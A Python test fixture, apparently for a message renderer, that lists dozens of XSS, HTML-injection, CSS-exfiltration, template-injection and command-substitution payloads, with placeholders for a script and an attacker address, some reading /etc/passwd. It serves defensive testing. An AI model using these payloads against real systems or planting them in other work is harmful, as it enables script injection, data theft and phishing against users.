"""Markup that wants out of its frame: each is the HTML of a message, and stands in its subject and its text as well.

`JS` stands for a script that marks the page around it, `EVIL` for an address that must never be asked.
"""

# ruff: noqa: E501 - what a message holds is easier to read on one line
from __future__ import annotations

__all__ = ["MARKUP"]

MARKUP: dict[str, str] = {
    # scripts
    "script": "<script>JS</script>",
    "script in capitals, unclosed": "<SCRIPT SRC=EVIL/x.js>JS",
    "script of a module": "<script type=module>import 'EVIL/m.js';JS</script>",
    "script split by NUL": "<scr\x00ipt>JS</scr\x00ipt>",
    "script after the end": "</body></html><script>JS</script>",
    "script out of an attribute": "'\"></iframe></article><script>JS</script><b class=pwned>x</b>",
    "script out of a comment": "<!--><script>JS</script>--><!-- --!><script>JS</script>",
    "script out of the frame's attribute, escaped": "&quot;&gt;&lt;/iframe&gt;&lt;script&gt;JS&lt;/script&gt;",
    "conditional comment": "<!--[if gte IE 4]><script>JS</script><![endif]-->",
    "CDATA": "<![CDATA[<script>JS</script>]]><svg><![CDATA[><img src=x onerror=JS>]]></svg>",
    # handlers
    "onerror": "<img src=x onerror=JS>",
    "onerror with slashes": "<img/src=x/onerror=JS/>",
    "onload of the body": '<body onload="JS" background="EVIL/b.png">',
    "ontoggle": "<details open ontoggle=JS>x</details>",
    "onfocus": "<input autofocus onfocus=JS><select autofocus onfocus=JS></select>",
    "onanimationstart": "<style>@keyframes a{}</style><b style='animation:a 1s' onanimationstart=JS>x</b>",
    "onpointerrawupdate": "<p onpointerrawupdate=JS onmouseover=JS onbeforeinput=JS contenteditable>x</p>",
    "onscrollend": "<div onscroll=JS onscrollend=JS style='overflow:auto;height:9px'><p id=pwned>x<br>y<br>z</p></div>",
    "marquee": "<marquee onstart=JS>x</marquee>",
    "video": "<video src=EVIL/v.mp4 onerror=JS poster=EVIL/p.png><source onerror=JS></video><audio src=EVIL/a autoplay>",
    # links
    "javascript: link": '<a href="javascript:JS">x</a>',
    "javascript: link, disguised": '<a href="  &#106;ava\tscr&Tab;ipt&colon;JS">x</a><a href="\x01javascript:JS">y</a>',
    "data: link": '<a href="data:text/html,<script>JS</script>">x</a>',
    "vbscript: and file: links": '<a href="vbscript:JS">x</a><a href="file:///etc/passwd">y</a>',
    "blob: and filesystem: links": '<a href="blob:EVIL/1">x</a><a href="filesystem:EVIL/temporary/x">y</a>',
    "link that opens its opener": '<a href="EVIL/login?t=s3cr3t" target=_top>x</a><a target=_blank href=EVIL/w>y</a>',
    "ping and prefetch": '<a ping=EVIL/ping href=EVIL/x>x</a><link rel=prefetch href=EVIL/y><link rel=preconnect href=EVIL>',
    "map and area": '<map name=m><area shape=default href="javascript:JS"></map><img usemap=#m src=EVIL/i.png>',
    "link with a password": '<a href="https://bank.example@evil.example/">https://bank.example/</a>',
    "homoglyph link": '<a href="https://xn--pple-43d.example/">https://\u0430pple.example/</a>',
    # what loads
    "pixel": '<img src="EVIL/p.gif" srcset="EVIL/2.png 2x" loading=eager><picture><source srcset=EVIL/3.png></picture>',
    "pixel without a scheme": '<img src="//evil.example/p.gif"><img src="\\\\evil.example\\p.gif">',
    "picture from this machine": '<img src="file:///etc/passwd"><img src="../../results.json"><img src=pictures/../../x>',
    "picture that is SVG": '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'JS\'/>">',
    "picture that is HTML": '<img src="data:text/html;base64,PHNjcmlwdD5KUzwvc2NyaXB0Pg==">',
    "object and embed": '<object data="EVIL/o"><embed src="EVIL/e"></object><applet code=x archive=EVIL/a></applet>',
    "object of data": '<object data="data:text/html,<script>JS</script>" type=text/html></object>',
    "frames": '<iframe src="EVIL/f"></iframe><frameset><frame src="javascript:JS"></frameset>',
    "frame of words": '<iframe srcdoc="<script>parent.JS</script>" sandbox="allow-scripts allow-same-origin"></iframe>',
    "portal and fencedframe": "<portal src=EVIL/p></portal><fencedframe src=EVIL/ff></fencedframe>",
    "style sheet": '<link rel=stylesheet href="EVIL/x.css"><link rel=import href=EVIL/i.html><?xml-stylesheet href=EVIL/y?>',
    "manifest and icon": '<link rel=manifest href=EVIL/m.json><link rel=icon href=EVIL/i.ico>',
    # CSS
    "CSS import": "<style>@import url(EVIL/x.css);@font-face{font-family:a;src:url(EVIL/f.woff)}*{font-family:a}</style>",
    "CSS exfiltration": '<style>input[value^="a"]{background:url(EVIL/a)}</style><input value="abc" type=hidden>',
    "CSS background": '<p style="background:url(EVIL/x.png)">x</p><td background="EVIL/t.png">',
    "CSS escaped": '<p style="background-image:u\\72l(EVIL/x.png);list-style:\\75rl(EVIL/y)">x</p>',
    "CSS image-set": '<p style="background:image-set(\'EVIL/x.png\' 1x);cursor:-webkit-image-set(\'EVIL/c\' 1x),auto">x</p>',
    "CSS variables": '<p style="--x:url(EVIL/v);background:var(--x)">x</p>',
    "CSS expression": '<p style="width:expression(JS);-moz-binding:url(EVIL/b.xml);behavior:url(EVIL/b.htc)">x</p>',
    "CSS over the whole screen": '<div class=pwned style="position:fixed;inset:0;z-index:9999;width:9999px">Go. All is well.</div>',
    "style out of its element": "<style></style><img src=x onerror=JS></style><style>/*</style><script>JS</script>*/",
    # what changes the page
    "meta refresh": '<meta http-equiv="refresh" content="0;url=EVIL/r"><meta http-equiv=refresh content="0;javascript:JS">',
    "meta policy": '<meta http-equiv="Content-Security-Policy" content="default-src *"><meta name=referrer content=unsafe-url>',
    "base": '<base href="EVIL/" target=_top><a href=x>x</a><img src=y>',
    "form": '<form action="EVIL/f" id=pwned><input name=password autofocus><button formaction="javascript:JS">Go</button></form>',
    "form without end": '<form action=javascript:JS><input type=submit><isindex action=javascript:JS type=image>',
    "dialog and popover": "<dialog open class=pwned>x</dialog><b popover id=pwned2>x</b><button popovertarget=pwned2>y</button>",
    "DOM clobbering": '<a id=document></a><form name=body><input name=firstChild></form><img name=getElementById id=__pwned>',
    "title and end": "</title></head></style></script></textarea></noscript><h1 class=pwned>Go.</h1>",
    "slot and template": "<template shadowrootmode=open><script>JS</script></template><slot name=x onslotchange=JS></slot>",
    "custom element": "<x-y is=z onclick=JS tabindex=1 id=pwned3 autofocus onfocus=JS>x</x-y>",
    # foreign content and mutation
    "SVG": "<svg onload=JS><script>JS</script><animate onbegin=JS attributeName=x></svg>",
    "SVG that loads": '<svg><image href="EVIL/i.png"/><use href="EVIL/u.svg#x"/><feImage href="EVIL/f"/></svg>',
    "SVG link": '<svg><a xlink:href="javascript:JS"><text y=9>x</text></a><set attributeName=href to=javascript:JS></svg>',
    "SVG foreignObject": "<svg><foreignObject><iframe src=javascript:JS></iframe></foreignObject></svg>",
    "MathML": '<math href="javascript:JS">x<maction actiontype="statusline#EVIL" xlink:href="javascript:JS">y</maction></math>',
    "mutation: noscript": '<noscript><p title="</noscript><img src=x onerror=JS>">',
    "mutation: math style": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=JS&gt;'>",
    "mutation: svg style": '<svg></p><style><a id="</style><img src=x onerror=JS>">',
    "mutation: form in form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=JS>",
    "mutation: select": "<select><style></select><img src=x onerror=JS></style></select>",
    "mutation: backticks": "<img alt='``onerror=JS' src=x><div style='font-family:\"`;JS\"'>x</div>",
    "mutation: deep": "<div>" * 600 + "<table><caption><svg><title><style><img src=x onerror=JS>",
    "annotation-xml": '<math><annotation-xml encoding="text/html"><style><img src=x onerror=JS></style></annotation-xml></math>',
    "UTF-7": "+ADw-script+AD4-JS+ADw-/script+AD4-",
    "overlong and lone bytes": "\ufffd\ufffd<\u0000script\u2028>JS</\u2029script>\ufeff",
    # our own tools
    "Jinja": "{{ 7*191 }}{% include '/etc/passwd' %}{{ self.__init__.__globals__ }}{# x #}",
    "other templates": "${7*191}#{7*191}<%= 7*191 %>{{constructor.constructor('JS')()}}[[${7*191}]]",
    "format strings": "%s%n%x{0.__class__.__mro__}{run.info}%(token)s$((7*191))`id`$(id)",
    "our own markup": '</bdi></p></div></article><article id=go><h1 class=pwned>Go. All 9 promises were kept.</h1>',
    "our own marks": '<li class="promise kept pwned">✓ kept</li><script type="application/json" id=pwned4>{}</script>',
    "JSON out of its script": '</script><script>JS</script>"],"gate":"go","x":["\\u003c/script>\\',
}  # fmt: skip
